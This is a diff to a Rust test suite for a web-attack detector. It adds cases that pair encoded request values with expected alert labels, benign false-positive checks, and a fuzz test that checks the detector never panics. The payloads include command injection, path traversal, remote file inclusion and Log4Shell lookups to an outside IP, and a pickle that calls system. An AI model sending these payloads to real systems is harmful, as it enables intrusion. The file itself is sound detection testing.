@@ -94,7 +94,19 @@ fn every_family_and_placement() {
         (post("/run", "form", "cmd=x%7C%20whoami"), &["command_injection"]),
         // Traversal and file inclusion.
         (get("/file", "name=..%2F..%2F..%2Fetc%2Fhosts"), &["path_traversal"]),
-        (get("/file", "name=php://filter/convert.base64-encode/resource=index"), &["code_injection", "path_traversal"]),
+        (get("/file", "name=php://filter/convert.base64-encode/resource=index"), &["path_traversal", "php_injection"]),
+        (get("/get", "foo=%24__%5B%27o%27%5D%285%29"), &["php_injection"]),
+        (post("/post", "form", "test=com.opensymphony.xwork2"), &["code_injection", "java_injection"]),
+        (get("/get", "foo=for%20/f%20%25i%20in%20(set)%20do%20command"), &["command_injection"]),
+        (get("/get", "eval=while(true);"), &["nodejs_injection"]),
+        (get("/get", "foo=this.constructor.constructor"), &["nodejs_injection"]),
+        (get("/items", "id=1%20and%20concat(0x3a,version())"), &["sqli"]),
+        (get("/p", "payload=Left%20(WA,%20RR),%20following%20the%20edge%20(564719)."), &[]),
+        (get("/p", "text=while%20(foo)%20is%20bar."), &[]),
+        (get("/p", "var=a%20hero;%20more%20than"), &[]),
+        (get("/p", "test=style%3Dcolor:red;background:white"), &[]),
+        (get("/p", "doc=%3C%3Fxml%20version%3D%221.0%22%3F%3E"), &[]),
+        (get("/p", "cmd=Go%20to%20store.%0aAt%20the%20store,%20shop."), &[]),
         (get("/page", "inc=http://198.51.100.9/shell.txt?"), &["rfi"]),
         // Log4Shell at the end of an unusual header, and obfuscated.
         (with_headers("/", &[("x-api-version", "1.0 ${jndi:ldap://198.51.100.9/a}")]), &["log4shell"]),
@@ -118,7 +130,7 @@ fn every_family_and_placement() {
         (post("/contact", "form", "email=a%40b.test%0d%0aBcc:%20victim%40c.test"), &["mail_injection"]),
         // Serialized objects: a base64 pickle in a cookie, Java, PHP.
         (with_headers("/", &[("cookie", "prefs=gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==")]), &["deserialization"]),
-        (post("/api", "text", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="), &["deserialization"]),
+        (post("/api", "text", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="), &["deserialization", "java_injection"]),
         (get("/api", "data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"), &["deserialization"]),
         // Prototype pollution.
         (post("/merge", "json", r#"{"__proto__": {"isAdmin": true}}"#), &["prototype_pollution"]),
@@ -168,5 +180,44 @@ fn severity_follows_the_answer_and_the_alert_says_where() {
         assert_eq!(out[0].severity, want, "{status}");
         assert!(out[0].title.contains("query parameter `host`"), "{}", out[0].title);
         assert!(out[0].description.contains("`id`"), "{}", out[0].description);
+    }
+}
+
+/// Hostile and random input never panics, whatever the bytes and the placement (multi-byte
+/// characters next to every delimiter the matchers cut at).
+#[test]
+fn random_values_never_panic() {
+    const ALPHABET: &[&str] = &[
+        "ä", "ß", "€", "😀", "(", ")", "$", "{", "}", "[", "]", "'", "\"", ";", "|", "&", "`",
+        "<", ">", "/", "\\", ".", "..", "%", "%2", "%25", "%u", "&#", "\\u", "=", ":", "-",
+        "--", "/*", "*/", "#", "\n", "\r", " ", "a", "concat", "system", "while", "for ",
+        " in (", " do ", "${", "jndi:", "lower:", "<?php", "on", "script", "__", "$ne", "*)(",
+        "select", "union", "x", "1", "0x", "cat", "id",
+    ];
+    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
+    let mut next = || {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        x
+    };
+    let mut d = ContentInspection::new(ContentConfig::default());
+    let mut out = Vec::new();
+    for i in 0..3_000u32 {
+        let n = (next() % 40) as usize;
+        let value: String = (0..n).map(|_| ALPHABET[(next() % ALPHABET.len() as u64) as usize]).collect();
+        let leaked: &'static str = Box::leak(value.into_boxed_str());
+        let query: &'static str = Box::leak(format!("q={leaked}").into_boxed_str());
+        let headers: &'static [(&'static str, &'static str)] =
+            Box::leak(vec![("x-v", leaked), ("cookie", leaked)].into_boxed_slice());
+        let mut r = Req { method: "POST", path: "/x", query, headers, body: leaked, status: 200 };
+        if i % 2 == 0 {
+            r.path = leaked;
+        }
+        let mut ev = event(&r);
+        ev.user_agent = Cow::Borrowed(leaked);
+        let cx = EventCtx::new(&ev);
+        d.observe(&cx, &mut out);
+        out.clear();
     }
 }
